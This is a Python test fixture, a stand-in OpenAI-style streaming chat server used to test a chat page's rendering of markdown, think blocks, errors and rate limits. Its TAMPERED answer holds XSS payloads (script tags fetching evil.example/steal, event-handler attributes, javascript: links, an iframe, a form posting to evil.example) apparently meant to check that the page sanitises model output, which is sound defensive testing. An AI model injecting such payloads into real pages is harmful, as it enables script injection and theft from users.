"""A stand-in for the server: the page, and answers in OpenAI's form that the message chooses."""

import asyncio
import json
import threading
from collections.abc import AsyncIterator
from typing import Any

from fastapi import FastAPI, Request, Response
from fastapi.responses import JSONResponse, StreamingResponse

from mlx_gpt.serve.page import add_page

MODELS = ["smollm2", "smollm2:pirate"]

MARKDOWN = """\
# Sorting by hand

A **stable** sort keeps *equal* rows in their order; `sorted` is one. See [the documentation]\
(https://docs.python.org/3/howto/sorting.html), or https://example.org.

## Steps

1. Split the list.
   - Halves of about one size,
   - down to one element:
     - which is sorted.
2. Merge the halves.

```python
def merge(left: list[int], right: list[int]) -> list[int]:
    \"\"\"Return the elements of two sorted lists, sorted, in time linear in their number.\"\"\"
    merged = []
    while left and right:
        merged.append((left if left[0] <= right[0] else right).pop(0))  # a stable sort takes left
    return merged + left + right
```

| algorithm | comparisons | stable |
|:----------|------------:|:------:|
| merge     |     n log n |  yes   |
| heap      |    2n log n |   no   |

> Measure before you choose.

- [x] correct
- [ ] fast

---

That is *all*.
"""

TAMPERED = """\
<script>window.owned = 1; fetch("https://evil.example/steal")</script>
<img src="https://evil.example/pixel.png" onerror="window.owned = 2">

![picture](https://evil.example/picture.png) [click](javascript:window.owned=3)
[data](data:text/html,<script>window.owned=4</script>) <a href="javascript:window.owned=5">x</a>

```html
<iframe src="https://evil.example"></iframe><style>@import "https://evil.example/a.css"</style>
```

| <b onclick="window.owned=6">cell</b> | b |
|---|---|
| <svg onload="window.owned=7"> | `</code><script>window.owned=8</script>` |

</div></article><form action="https://evil.example"><input name="key"></form>
"""

THOUGHTS = "<think>\ntwo and two\n</think>\n\nIt is **four**."

ANSWERS = {"markdown": MARKDOWN, "tampered": TAMPERED, "thoughts": THOUGHTS, "nothing": ""}


class Record:
    """What the server was asked, and what it is to do."""

    def __init__(self) -> None:
        self.forget()

    def forget(self) -> None:
        """Begin anew."""
        self.bodies: list[dict[str, Any]] = []
        self.key: str | None = None
        self.busy = 0  # how many requests are refused
        self.running = 0
        self.go_on = threading.Event()  # an answer to "hold" ends when it is set


def make_app(record: Record) -> FastAPI:
    """Return the application."""
    app = FastAPI()
    add_page(app)

    @app.get("/v1/models")
    async def models(request: Request) -> Response:
        if refused := refuse(request, record):
            return refused
        data = [{"id": name, "object": "model", "created": 0, "owned_by": "x"} for name in MODELS]
        return JSONResponse({"object": "list", "data": data})

    @app.post("/v1/chat/completions")
    async def chat(request: Request) -> Response:
        if refused := refuse(request, record):
            return refused
        body = await request.json()
        record.bodies.append(body)
        if record.busy:
            record.busy -= 1
            return error(429, "The queue of 64 requests is full.", {"Retry-After": "2"})
        assert body["stream"] is True
        assert body["stream_options"] == {"include_usage": True}
        return StreamingResponse(stream(body, record), media_type="text/event-stream")

    return app


def refuse(request: Request, record: Record) -> Response | None:
    """Return an answer if the request lacks the key."""
    if record.key and request.headers.get("authorization") != f"Bearer {record.key}":
        return error(401, "This server needs a key.")
    return None


def error(status: int, message: str, headers: dict[str, str] | None = None) -> Response:
    """Return an error in OpenAI's form."""
    content = {"error": {"message": message, "type": "x", "param": None, "code": None}}
    return JSONResponse(content, status, headers)


async def stream(body: dict[str, Any], record: Record) -> AsyncIterator[bytes]:
    """Yield the events of an answer."""
    asked = body["messages"][-1]["content"]
    last = asked.split()[-1].lower() if asked.split() else ""
    limit = body.get("max_tokens", 10_000)
    text = ANSWERS.get(last, f"You said: {asked} ({len(body['messages'])} messages)")
    record.running += 1
    try:
        if last == "hold":
            yield chunk(body, "I wait")
            while not record.go_on.is_set():
                yield b": keepalive\n\n"
                await asyncio.sleep(0.02)
            text = " no more."
        if last == "lines":
            text = "\n".join(f"{number}. line" for number in range(1, 400))
        tokens = [text[at : at + 4] for at in range(0, len(text), 4)]
        for token in tokens[:limit]:
            yield chunk(body, token)
            await asyncio.sleep(0.02 if last == "lines" else 0.001)
        if last == "breaks":
            return
        if last == "fails":
            yield event({"error": {"message": "The engine failed at this request.", "code": None}})
            return
        yield chunk(body, "", "length" if len(tokens) > limit else "stop")
        used = {"prompt_tokens": 21, "completion_tokens": min(len(tokens), limit)}
        cached = {"prompt_tokens_details": {"cached_tokens": 16}}
        yield event({"choices": [], "usage": used | {"total_tokens": 0} | cached})
        yield b"data: [DONE]\n\n"
    finally:
        record.running -= 1


def chunk(body: dict[str, Any], text: str, finish: str | None = None) -> bytes:
    """Return an event with more text."""
    choice = {"index": 0, "delta": {"content": text} if text else {}, "finish_reason": finish}
    return event({"object": "chat.completion.chunk", "model": body["model"], "choices": [choice]})


def event(content: dict[str, Any]) -> bytes:
    """Return a server-sent event."""
    return f"data: {json.dumps(content)}\n\n".encode()
